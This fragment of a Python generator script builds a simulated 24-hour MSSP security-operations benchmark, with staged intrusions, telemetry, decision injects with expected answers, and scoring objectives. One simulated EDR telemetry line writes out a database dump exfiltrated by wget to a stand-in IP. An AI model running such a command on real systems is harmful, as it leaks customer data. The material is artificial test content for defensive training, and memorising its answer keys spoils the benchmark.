                     (source: "edr", summary: "mysqldump -u svc-app orders > /tmp/.o.sql; wget --post-file=/tmp/.o.sql http://203.0.113.23/u"),
                     (source: "fw", summary: "@W@-web01 sent 1.4 GB to 203.0.113.23:80"),
                 ],
                 severity: Critical),
            ],
        ),
        // Early morning (T+21h-22h30m): a leaked backup key at a Platinum health provider.
        // Its last stages fall around or after the time limit, so the exercise keeps
        // running to (nearly) the full 24 hours instead of ending once the day's other
        // intrusions are resolved.
        (
            id: "cloud-key",
            name: "@CN@: leaked backup key to cloud storage theft",
            tenant: "@C@",
            stages: [
                (id: "first-use", name: "Leaked backup key used from a VPS", tactic: "initial-access", technique: "T1078.004",
                 target: Account("@CSVC@"), delay: Uniform("21h", "22h30m"),
                 effects: [Compromise("@CSVC@")],
                 observables: [(kind: Ip, value: "198.51.100.144")],
                 telemetry: [
                     (source: "entra", summary: "Service principal @CSVC@ signed in with a client secret from 198.51.100.144 (hosting ASN); it has only ever signed in from the backup appliance"),
                     (source: "m365", summary: "@CSVC@ from 198.51.100.144: GetCallerIdentity-style token probe, Graph /me and /organization"),
                 ],
                 severity: High),
                (id: "enum", name: "Storage and mailbox enumeration", tactic: "discovery", technique: "T1580",
                 target: Account("@CSVC@"), after: ["first-use"], delay: Uniform("2m", "15m"),
                 requires: [AccountEnabled("@CSVC@")],
                 observables: [(kind: Ip, value: "198.51.100.144")],
                 telemetry: [(source: "m365", summary: "@CSVC@ from 198.51.100.144: listed 14 storage containers and 212 SharePoint sites in 90 s; 31 access denied")],
                 severity: Medium),
                // Gap: the mass-download rule is disabled.
                (id: "grab", name: "Patient-record exports downloaded", tactic: "collection", technique: "T1530",
                 target: Account("@CSVC@"), after: ["enum"], delay: Uniform("1h", "1h45m"),
                 requires: [AccountEnabled("@CSVC@"), NotBlocked("198.51.100.144")],
                 effects: [Impact("patient-record exports downloaded", 40.0)],
                 observables: [(kind: Ip, value: "198.51.100.144")],
                 telemetry: [(source: "m365", summary: "FileDownloaded x 48,210 from container 'ehr-exports' by @CSVC@ from 198.51.100.144 in 52 min")],
                 severity: Critical),
                (id: "copy-out", name: "Backups copied to an outside tenant", tactic: "exfiltration", technique: "T1537",
                 target: Account("@CSVC@"), after: ["grab"], delay: Uniform("1h", "3h"),
                 requires: [AccountEnabled("@CSVC@"), NotBlocked("198.51.100.144")],
                 effects: [Impact("backups copied to an outside tenant", 30.0)],
                 observables: [(kind: Email, value: "sync@alder-backup-eu.net")],
                 telemetry: [(source: "m365", summary: "Container 'ehr-backups' shared with external principal sync@alder-backup-eu.net by @CSVC@")],
                 severity: Critical),
            ],
        ),
    ],
"""

INJECTS = r"""    injects: [
        (id: "shift-briefing", title: "Day shift briefing: 50 clients, one queue",
         when: At("30m"), to: [Tier1, Tier2, Hunter, Responder, Manager, Engineer],
         body: "The queue runs at about a thousand alerts an hour across 50 clients. Contracts range from Platinum (15-minute pickup) to Bronze (4 hours). The AdFind, archiver, SharePoint mass-download and VPN-logon rules are written but not deployed.",
         questions: ["Which clients' alerts come first when the queue cannot be emptied?", "Which detection gaps would you hunt first today?"]),
        (id: "platinum-mute", title: "Platinum client asks to mute alerts for a maintenance window",
         when: At("2h"), to: [Manager, Engineer],
         body: "A Platinum client's IT lead phones: their EHR upgrade starts at noon and 'your alerts will go crazy'. She asks the SOC to suppress all of their alerts for four hours.",
         questions: ["What does the contract let you suppress, and who must approve it?"],
         decision: (options: ["Suppress every alert of the client for four hours as asked", "Suppress only the named maintenance hosts' change-noise rules, in writing, and keep identity and EDR alerting live"], expected: 1, respond_within: "30m")),
        (id: "phish-notify", title: "Confirmed intrusion at a Gold credit union",
         when: OnDetected("phish"), to: [Manager],
         body: "The credit union's Gold contract requires a phone call within 30 minutes of a confirmed incident.",
         questions: ["What do you say while the scope is unknown?"],
         decision: (options: ["Phone the client's security contact now with what is known", "Wait until the scope is complete"], expected: 0, respond_within: "30m")),
        (id: "partner-call", title: "A partner reports MFA prompts",
         when: AfterStage("bec", "signin"), to: [Tier1, Manager],
         body: "The law firm's service desk forwards a voicemail from a partner: 'my phone kept buzzing with sign-in requests, I think I pressed approve to make it stop'. The desk asks whether to just reset her password tomorrow.",
         questions: ["Who owns this report now, and how does it reach Tier 2?", "What does a password reset alone leave in the attacker's hands?"]),
        (id: "bec-notify", title: "Confirmed intrusion at a Silver law firm",
         when: OnDetected("bec"), to: [Manager],
         body: "The firm's Silver contract asks for notice within 2 hours. It holds client money in escrow.",
         questions: ["Who at the firm must hear today rather than tomorrow?"],
         decision: (options: ["Wait for the contract's notice window", "Call the managing partner now and recommend holding outgoing payments"], expected: 1, respond_within: "1h")),
        (id: "handover", title: "Shift handover",
         when: At("12h"), to: [Tier1, Tier2, Hunter, Responder, Manager, Engineer],
         body: "The night shift takes over. Open cases, waiting handoffs and rule changes in flight must be handed over.",
         questions: ["What goes into the handover note for each open case?", "Which queued alerts are already past their client's SLA?"]),
        (id: "ransom-notify", title: "Confirmed intrusion at a Gold manufacturer",
         when: OnDetected("ransom"), to: [Manager],
         body: "The manufacturer's Gold contract requires a phone call within 30 minutes and written authority before isolating production servers.",
         questions: ["What containment authority do you ask for on the call?"],
         decision: (options: ["Phone the on-call contact now, brief what is known and get isolation authority", "E-mail the shared IT mailbox and wait for office hours", "Wait until Tier 2 has finished scoping"], expected: 0, respond_within: "30m")),
        (id: "ransom-dayshift", title: "The plant asks whether the early shift can start",
         when: NotContainedBy("ransom", "19h"), to: [Manager, Responder],
         body: "The plant manager calls: your ticket says an intruder may still be inside. He asks whether IT should power everything off and whether the 06:00 shift can start on the production network.",
         questions: ["What evidence would powering off destroy?"],
         decision: (options: ["Power off every server and workstation now", "Keep affected servers powered on but isolated, preserve evidence, hold the shift start"], expected: 1, respond_within: "20m")),
    ],
    objectives: [
        (id: "detect-phish", description: "Detect the credit-union phish within 1 hour",
         measure: DwellTime("phish"), p: "1h", s: "2h", m: "4h"),
        (id: "contain-phish", description: "Contain the phish before the export leaves",
         measure: Exposure("phish"), p: "2h", s: "3h", m: "4h"),
        (id: "detect-bec", description: "Detect the law-firm identity intrusion within 90 minutes of the spray",
         measure: DwellTime("bec"), p: "1h30m", s: "3h", m: "5h"),
        (id: "contain-bec", description: "Lock the attacker out of the partner's account before the files leave",
         measure: Exposure("bec"), p: "2h30m", s: "3h30m", m: "5h"),
        (id: "detect-ransom", description: "Detect the manufacturer intrusion within 1 hour of the exploit",
         measure: DwellTime("ransom"), p: "1h", s: "2h", m: "4h"),
        (id: "contain-ransom", description: "Contain the manufacturer before the backups are destroyed",
         measure: Exposure("ransom"), p: "3h", s: "4h", m: "5h30m"),
        (id: "detect-webshell", description: "Detect the shop web shell within 30 minutes",
         measure: DwellTime("webshell"), p: "30m", s: "1h", m: "2h"),
        (id: "detect-cloud", description: "Detect the leaked key within 1 hour of its first use",
         measure: DwellTime("cloud-key"), p: "1h", s: "2h", m: "3h"),
        (id: "notify-ransom", description: "Call the manufacturer within 30 minutes of confirming the incident",
         measure: InjectResponse("ransom-notify"), p: "15m", s: "30m", m: "1h"),
        (id: "platinum-mute", description: "Answer the Platinum client's mute request within 30 minutes",
         measure: InjectResponse("platinum-mute"), p: "15m", s: "30m", m: "1h"),
        (id: "impact", description: "No client data leaves and nothing is encrypted",
         measure: ImpactPercent, p: 0, s: 25, m: 50),
        (id: "triage", description: "Triage accurately at a thousand alerts an hour",
         measure: TriageAccuracy, p: 85, s: 70, m: 55),
        (id: "handoffs", description: "Hand off with the tenant, host, account and indicators the next seat needs",
         measure: HandoffQuality, p: 75, s: 60, m: 45),
    ],
"""

# Sized for the volume with expert bots (see STAFFING_NOTE).
STAFFING = [
    ("Tier1", 24),
    ("Tier2", 2),
    ("Hunter", 2),
    ("Responder", 2),
    ("Manager", 1),
    ("Engineer", 1),
]

# Action durations overridden for the MSSP's SOAR-assisted workflow (see DURATIONS_NOTE).
DURATIONS = [
    ("TakeAlert", 'Uniform("5s", "20s")'),
    ("Classify", 'Uniform("20s", "1m40s")'),
    ("Close", 'Uniform("5s", "20s")'),
]
DURATIONS_NOTE = """\
    // At a thousand alerts an hour no SOC triages by hand. Alerts reach Tier 1 already
    // enriched by the SOAR platform (asset owner, tenant, prior verdicts on the same
    // rule and host), so taking, judging and closing one takes about a minute and a
    // half instead of the default eight. Everything else keeps its default duration.
"""

STAFFING_NOTE = """\
    // Tier 1: an expert seat clears about 60 SOAR-enriched alerts an hour, and each
    // escalation costs it a handoff too, so 24 seats keep up with ~1,000 an hour at
    // roughly 70% busy (competent bots fall behind). Even experts escalate a few
    // percent of benign alerts, over a thousand a day, far more than any Tier 2 can
    // investigate. Tier 2 works the most severe handoffs first, so two seats still
    // reach the intrusions quickly; every extra seat mostly investigates needless
    // escalations, some of which end in false incidents and collateral containment.
"""

PARTNERS = r"""    // The MSSP's EDR console isolates quickly; identity and network changes go through
    // each client's own IT staff.
    partners: [
        (team: Endpoint, delay: Uniform("10m", "30m")),
        (team: Identity, delay: Uniform("15m", "45m")),
        (team: Network, delay: Uniform("15m", "45m")),
    ],
"""


def main(out):
    w = out.write
    total, own, shared = designed_benign()
    tenants = [tenant(i) for i in range(TENANTS)]
    hosts = [h for i, (t, _, _) in enumerate(tenants) for h in hosts_of(t)]
    accounts = [(a, t) for i, (t, _, _) in enumerate(tenants) for a in accounts_of(i, t)]
    seats = sum(n for _, n in STAFFING)

    w("// Benchmark scale scenario: an MSSP with 50 tenants, 5,000 hosts, 24 simulated hours\n")
    w("// and about 1,000 benign alerts an hour, bots in every seat.\n")
    w("//\n")
    w("// GENERATED: do not edit by hand. Change benches/make_scale.py and rerun\n")
    w("//     python3 benches/make_scale.py > benches/scale.ron\n")
    w("//\n")
    w("// For the benchmark only, not a library scenario. The intrusions reuse the\n")
    w("// patterns and timings of mssp-night-shift, phish-to-exfil, cloud-key-leak and\n")
    w("// the scenario guide's web shell tutorial (sources in those files), moved in time\n")
    w("// so that one begins every four to six hours. T+0 is 08:00.\n")
    w(f"// Counts: {len(tenants)} tenants, {len(hosts)} hosts, {len(accounts)} accounts, "
      f"{len(RULES)} rules ({sum(1 for r in RULES if r[7])} enabled), {seats} seats.\n")
    w(f"// Benign alerts at T+0: {total:.1f} an hour ({own:.1f} from the enabled rules' own\n")
    w(f"// rates, {shared:.1f} from source noise); engineers' tuning lowers only the former.\n")
    w("Scenario(\n")
    w('    id: "bench-scale-mssp",\n')
    w('    title: "Benchmark: a 50-tenant MSSP over 24 hours",\n')
    w('    summary: "A 24-hour MSSP day over 50 client tenants and 5,000 hosts with about '
      '1,000 benign alerts an hour: an invoice phish at a credit union, an MFA-fatigue '
      'intrusion at a law firm, ransomware through an exposed file-transfer server at a '
      'manufacturer, a web shell on a retailer\'s shop and a leaked cloud backup key at a '
      'health provider hide in the queue.",\n')
    w("    difficulty: Hard,\n")
    w("    learning_objectives: [\n")
    w('        "Triage by severity and client SLA at a thousand alerts an hour",\n')
    w('        "Find five intrusions in five tenants among 5,000 hosts",\n')
    w('        "Tune the noisiest shared rules without blinding the SOC",\n')
    w("    ],\n")
    w('    tags: ["benchmark", "scale", "mssp", "multi-tenant"],\n')
    w(f'    time_limit: "{TIME_LIMIT}",\n')
    w("\n")

    w("    tenants: [\n")
    for t, name, sla in tenants:
        w(f'        (id: "{t}", name: "{name}", sla: {sla}),\n')
    w("    ],\n")

    w("    hosts: [\n")
    for t, _, _ in tenants:
        for hid, kind, crit in hosts_of(t):
            w(f'        (id: "{hid}", tenant: "{t}", kind: {kind}, criticality: {crit}),\n')
    w("    ],\n")

    w("    accounts: [\n")
    for i, (t, _, _) in enumerate(tenants):
        for aid, priv in accounts_of(i, t):
            w(f'        (id: "{aid}", tenant: "{t}", privilege: {priv}),\n')
    w("    ],\n")

    w("    data_sources: [\n")
    for sid, kind in DATA_SOURCES:
        w(f'        (id: "{sid}", kind: {kind}),\n')
    w("    ],\n")

    w("    // Shared detection content; benign rates are totals over all 50 tenants.\n")
    w("    rules: [\n")
    for rid, name, src, techs, fid, sev, bph, enabled, sigma in RULES:
        line = (f'        (id: "{rid}", name: "{name}", source: "{src}", '
                f'techniques: [{", ".join(q(x) for x in techs)}], fidelity: {fid}, '
                f'severity: {sev}, benign_per_hour: {bph}')
        if not enabled:
            line += ", enabled: false"
        if sigma:
            line += f', sigma: "{sigma}"'
        w(line + "),\n")
    w("    ],\n")

    w(intrusions())

    w("    noise: [\n")
    for src, aph, act, looks in NOISE:
        line = f'        (source: "{src}", alerts_per_hour: {aph}, activity_per_hour: {act}'
        if looks:
            items = ", ".join(f'(kind: {k}, value: "{v}")' for k, v in looks)
            line += f", lookalikes: [{items}]"
        w(line + "),\n")
    w("    ],\n")

    w(INJECTS)

    w(STAFFING_NOTE)
    w("    staffing: [\n")
    for role, n in STAFFING:
        w(f"        (role: {role}, seats: {n}),\n")
    w("    ],\n")
    w(DURATIONS_NOTE)
    w("    durations: [\n")
    for action, delay in DURATIONS:
        w(f"        (action: {action}, time: {delay}),\n")
    w("    ],\n")
    w(PARTNERS)
    w(")\n")


if __name__ == "__main__":
    main(sys.stdout)
